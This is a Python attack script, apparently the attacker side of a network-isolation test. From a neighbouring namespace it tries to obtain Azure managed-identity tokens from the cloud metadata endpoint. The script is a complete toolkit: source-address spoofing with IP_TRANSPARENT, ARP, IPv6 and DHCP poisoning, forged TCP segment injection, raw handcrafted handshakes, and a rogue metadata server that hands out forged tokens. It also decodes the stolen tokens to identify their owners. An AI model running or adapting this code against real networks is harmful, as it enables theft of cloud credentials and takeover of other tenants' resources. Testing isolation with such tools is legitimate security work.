"""Root in a neighbour namespace: `attacker.py ATTACK COUNT ARGUMENT…` makes so many attempts, and prints as JSON how many it
made, and whose tokens it got by them."""

import base64
import http.server
import json
import random
import socket
import struct
import sys
import time

from frames import (
    BROADCAST, arp, dhcp_acknowledgement, ethernet, icmpv6, ipv4, ipv6, neighbour_advertisement, packed, router_advertisement, tcp, udp, wire,
)

METADATA = "169.254.169.254"
TARGET = "/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https%3A%2F%2Fmanagement.azure.com%2F"
# Longest time for which an attempt waits for its answer, in seconds.
PATIENCE = 0.5
# The object id in what the attacker serves to those who are misled.
FORGED = "forged"
SYN, RST, PUSH_ACK = 2, 4, 24

CHANCE = random.Random(8)


def owners(answer):
    """The object ids of the tokens in the bytes of answers."""
    found = []
    for part in answer.split(b'"access_token":"')[1:]:
        token = part.split(b'"')[0].split(b".")
        body = token[1] + b"=" * (-len(token[1]) % 4)
        found.append(json.loads(base64.urlsafe_b64decode(body))["oid"])
    return found


def ask(address, port=80, target=TARGET, source=None, host=None):
    """Whose tokens an ordinary request got."""
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    head = f"GET {target} HTTP/1.1\r\nHost: {host or address}\r\nMetadata: true\r\nConnection: close\r\n\r\n"
    return send(family, (address, port), head.encode(), source)


def send(family, to, data, source=None):
    answer = b""
    try:
        with socket.socket(family) as asking:
            asking.settimeout(PATIENCE)
            if source:
                asking.setsockopt(socket.SOL_IP, 15, 1)  # IP_FREEBIND
                asking.bind((source, 0))
            asking.connect(to)
            asking.sendall(data)
            while more := asking.recv(65536):
                answer += more
    except OSError:
        pass
    return owners(answer)


def requests(count, address, port, target, source=""):
    """Requests to an address that is routed to the victim, from any source port, or from the address of somebody else."""
    tokens = []
    for _ in range(count):
        tokens += ask(address, int(port), target, source or None)
    return count, tokens


def transparent(count, device, address, port, target, *sources):
    """Requests from sockets that may have anybody's address (IP_TRANSPARENT, which takes root of the namespace) and go out by one
    device, with each of these addresses as their source; what comes back to them is taken up by the attacker itself."""
    tokens = []
    for number in range(count):
        source = sources[number % len(sources)]
        try:
            with socket.socket() as asking:
                asking.settimeout(PATIENCE / 5)
                asking.setsockopt(socket.SOL_IP, 19, 1)  # IP_TRANSPARENT
                asking.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, device.encode())
                asking.bind((source, 0))
                asking.connect((address, int(port)))
                asking.sendall(f"GET {target} HTTP/1.1\r\nHost: {address}\r\nMetadata: true\r\nConnection: close\r\n\r\n".encode())
                answer = b""
                while more := asking.recv(65536):
                    answer += more
                tokens += owners(answer)
        except OSError:
            pass
    return count, tokens


def poisoning(count, device, own, own_address, victim, victim_address, victim_link_local):
    """ARP answers and announcements, neighbour and router advertisements, and leases, each of which says that the metadata
    address, the victim's gateway or the victim itself is the attacker."""
    everybody = "ff02::1"
    source = "fe80::" + own_address.rpartition(".")[2]
    makers = [
        lambda: ethernet(victim, own, 0x0806, arp(2, own, METADATA, victim, victim_address)),
        lambda: ethernet(BROADCAST, own, 0x0806, arp(2, own, METADATA, BROADCAST, METADATA)),
        lambda: ethernet(BROADCAST, own, 0x0806, arp(1, own, METADATA, "00:00:00:00:00:00", METADATA)),
        lambda: ethernet(victim, own, 0x0806, arp(1, own, METADATA, "00:00:00:00:00:00", victim_address)),
        lambda: ethernet(BROADCAST, victim, 0x0806, arp(2, own, victim_address, BROADCAST, victim_address)),
        lambda: ethernet(BROADCAST, own, 0x0806, arp(2, own, victim_address, BROADCAST, victim_address)),
        lambda: ethernet("33:33:00:00:00:01", own, 0x86DD, ipv6(
            source, everybody, 58, icmpv6(source, everybody, 136, neighbour_advertisement(victim_link_local, own)))),
        lambda: ethernet("33:33:00:00:00:01", own, 0x86DD, ipv6(
            source, everybody, 58, icmpv6(source, everybody, 136, neighbour_advertisement("fd00:ec2::254", own)))),
        lambda: ethernet("33:33:00:00:00:01", own, 0x86DD, ipv6(
            source, everybody, 58, icmpv6(source, everybody, 134, router_advertisement(own)))),
        lambda: ethernet(victim, own, 0x0800, ipv4(own_address, "255.255.255.255", 17, udp(
            own_address, 67, "255.255.255.255", 68, dhcp_acknowledgement(victim, victim_address, own_address)))),
    ]
    with wire(device) as out:
        for number in range(count):
            out.send(makers[number % len(makers)]())
            time.sleep(0.0005)
    return count, []


def injection(count, device, own, victim, victim_address):
    """Segments of the victim's connections, as if the endpoint had sent them: an answer with a token of the attacker's, ends
    and beginnings. And segments for the endpoint, as if the victim had sent them."""
    forged = json.dumps({"access_token": forged_token()}).replace(" ", "").encode()
    answer = b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n" % len(forged) + forged
    request = f"GET {TARGET} HTTP/1.1\r\nHost: {METADATA}\r\nMetadata: true\r\n\r\n".encode()
    with wire(device) as out:
        for number in range(count):
            port, sequence = CHANCE.randrange(32768, 61000), CHANCE.randrange(1 << 32)
            source, to, ports, flags, data = [
                (METADATA, victim_address, (80, port), PUSH_ACK, answer),
                (METADATA, METADATA, (80, port), PUSH_ACK, answer),
                (METADATA, METADATA, (80, port), RST, b""),
                (victim_address, METADATA, (port, 80), PUSH_ACK, request),
                (METADATA, METADATA, (port, 80), SYN, b""),
                ("127.0.0.1", METADATA, (port, 80), SYN, b""),
                ("127.0.0.1", "127.0.0.1", (port, 50342), SYN, b""),
                (victim_address, "127.0.0.1", (port, 50342), PUSH_ACK, request),
            ][number % 8]
            segment = tcp(source, ports[0], to, ports[1], sequence, CHANCE.randrange(1 << 32), flags, data)
            out.send(ethernet(victim, own, 0x0800, ipv4(source, to, 6, segment)))
            time.sleep(0.0005)
    return count, []


def handshakes(count, device, own, own_address, victim, address, port, target):
    """Whole connections by hand, past the attacker's own tables of addresses and routes: the frame goes to the victim's
    device, whatever address is in it."""
    family = 6 if ":" in address else 4
    tokens = []
    with wire(device) as out:
        out.settimeout(PATIENCE / 10)
        for _ in range(count):
            tokens += handshake(out, family, own, own_address, victim, address, int(port), target)
    return count, tokens


def handshake(out, family, own, own_address, victim, address, port, target):
    source_port, sequence = CHANCE.randrange(32768, 61000), CHANCE.randrange(1 << 32)

    def say(number, acknowledged, flags, data=b""):
        segment = tcp(own_address, source_port, address, port, number % (1 << 32), acknowledged, flags, data)
        body = ipv4(own_address, address, 6, segment) if family == 4 else ipv6(own_address, address, 6, segment)
        out.send(ethernet(victim, own, 0x0800 if family == 4 else 0x86DD, body))

    say(sequence, 0, SYN)
    heard, limit, answer = None, time.monotonic() + PATIENCE / 10, b""
    while time.monotonic() < limit:
        try:
            frame = out.recv(65536)
        except OSError:
            break
        if known := neighbour(frame, own, own_address):
            out.send(known)
            continue
        body = frame[14 + (20 if family == 4 else 40):]
        if len(body) < 20 or struct.unpack("!HH", body[:4]) != (port, source_port) or frame[6:12].hex(":") == own:
            continue
        number, flags = struct.unpack("!I", body[4:8])[0], body[13]
        if flags & RST:
            break
        if flags & SYN:
            heard, limit = number + 1, time.monotonic() + PATIENCE
            request = f"GET {target} HTTP/1.1\r\nHost: {address}\r\nMetadata: true\r\nConnection: close\r\n\r\n"
            say(sequence + 1, heard % (1 << 32), PUSH_ACK, request.encode())
        elif heard:
            answer += body[(body[12] >> 4) * 4:]
    return owners(answer)


def neighbour(frame, own, own_address):
    """The answer to a question for an address that no kernel has: the attacker's own would reset its connections."""
    if frame[6:12].hex(":") == own:
        return None
    if frame[12:14] == b"\x08\x06" and frame[20:22] == b"\0\x01" and frame[38:42] == packed_if(own_address, 4):
        asking = frame[6:12].hex(":")
        return ethernet(asking, own, 0x0806, arp(2, own, own_address, asking, socket.inet_ntoa(frame[28:32])))
    if frame[12:14] == b"\x86\xdd" and frame[54:55] == b"\x87" and frame[62:78] == packed_if(own_address, 6):
        asking, to = frame[6:12].hex(":"), socket.inet_ntop(socket.AF_INET6, frame[22:38])
        told = struct.pack("!I", 0x60000000) + frame[62:78] + b"\x02\x01" + bytes.fromhex(own.replace(":", ""))
        return ethernet(asking, own, 0x86DD, ipv6(own_address, to, 58, icmpv6(own_address, to, 136, told)))
    return None


def packed_if(address, version):
    return packed(address) if (":" in address) == (version == 6) else b""


def forged_token():
    return ".".join(base64.urlsafe_b64encode(json.dumps(part).encode()).decode().rstrip("=") for part in ({}, {"oid": FORGED}, {}))


class Rogue(http.server.BaseHTTPRequestHandler):
    """A metadata server of the attacker's own, for whoever is misled."""

    protocol_version = "HTTP/1.1"

    def do_GET(self):
        print("misled", self.client_address[0], flush=True)
        body = json.dumps({"access_token": forged_token(), "expires_in": "86399"}, separators=(",", ":")).encode()
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    do_POST = do_GET

    def log_message(self, *_):
        pass


def rogue(address, port):
    http.server.ThreadingHTTPServer((address, int(port)), Rogue).serve_forever()


ATTACKS = {function.__name__: function for function in (requests, transparent, poisoning, injection, handshakes)}

if __name__ == "__main__":
    if sys.argv[1] == "rogue":
        rogue(*sys.argv[2:])
    made, got = ATTACKS[sys.argv[1]](int(sys.argv[2]), *sys.argv[3:])
    print(json.dumps({"attempts": made, "tokens": got}))
